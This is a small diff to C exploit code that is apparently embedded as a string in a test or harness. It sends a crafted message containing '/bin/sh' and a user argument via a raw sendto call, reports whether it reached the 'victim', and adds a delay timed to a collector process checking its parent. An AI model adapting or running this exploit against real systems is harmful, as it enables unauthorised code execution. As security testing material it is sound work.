@@ -914,6 +914,8 @@ int main(int argc, char **argv) {
     n = str(b, n, "/bin/sh"); n = str(b, n, "/"); n = put(b, n, &flags, 4); n = str(b, n, argv[1]);
     long r = syscall(SYS_sendto, s, b, n, 0, 0, 0);
     printf("%d %d %s\n", me, victim, r > 0 ? "sent" : "not sent");
+    fflush(stdout);
+    usleep(300000); /* still there when the collector asks who its parent is */
     return 0;
 }
 "#;
